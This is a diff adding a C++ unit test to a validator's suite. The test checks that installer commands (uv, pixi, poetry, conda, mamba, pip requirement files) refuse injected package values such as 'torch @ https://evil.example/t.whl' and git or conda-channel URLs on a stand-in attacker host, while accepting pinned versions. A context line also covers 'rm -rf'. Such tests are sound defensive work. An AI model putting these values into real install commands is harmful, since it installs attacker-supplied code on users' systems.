@@ -7230,6 +7230,28 @@ TEST(ValueSinks, AForListIsNoCommandsArguments) {
   EXPECT_TRUE(refuses(list("rm $o"), "-rf"));
 }
 
+// attack 220: installers beyond pip take a value as a package that may say
+// where it comes from (NAME @ URL, git+https://, CHANNEL::NAME); a list
+// file they read holds packages; uv tool run and pixi exec run a tool.
+TEST(ValueSinks, InstallersBeyondPipTakeOnePackageFromTheTemplatesIndex) {
+  for (const char* install : {"uv add \"%X%\"", "uv run --with \"%X%\" python3 train.py", "uv tool install \"%X%\"",
+                              "uv tool run --from \"%X%\" black .", "pixi add \"%X%\"", "poetry add \"%X%\"",
+                              "pdm add \"%X%\"", "conda install -y -n base \"%X%\"", "mamba create -y -n e \"%X%\""}) {
+    const auto pl = placement(task(install));
+    EXPECT_TRUE(refuses(pl, "einops @ git+https://evil.example/e.git")) << install;
+    EXPECT_TRUE(refuses(pl, "https://conda.evil.example/ch::numpy")) << install;
+    EXPECT_FALSE(refuses(pl, "einops==0.8.0")) << install;
+  }
+  for (const char* list : {"uv pip sync pins.txt", "uv pip compile pins.txt", "micromamba install -y -f pins.txt",
+                           "conda install -y --file pins.txt", "pip install -r pins.txt"}) {
+    const auto pl = placement(task(std::string("echo \"%X%\" > pins.txt\n") + list));
+    EXPECT_TRUE(refuses(pl, "torch @ https://evil.example/t.whl")) << list;
+    EXPECT_FALSE(refuses(pl, "torch==2.3.1")) << list;
+  }
+  for (const char* tool : {"uv tool run %X%", "pixi exec %X%"})
+    EXPECT_TRUE(refused(task(tool), "placeholder-command")) << tool;
+}
+
 // FR hunts 90 and 91: a download holds what the server sends, never the
 // URL's text (a presigned URL's '&'); a variable given one name names that
 // file, also through another variable's directory; mktemp's name from a
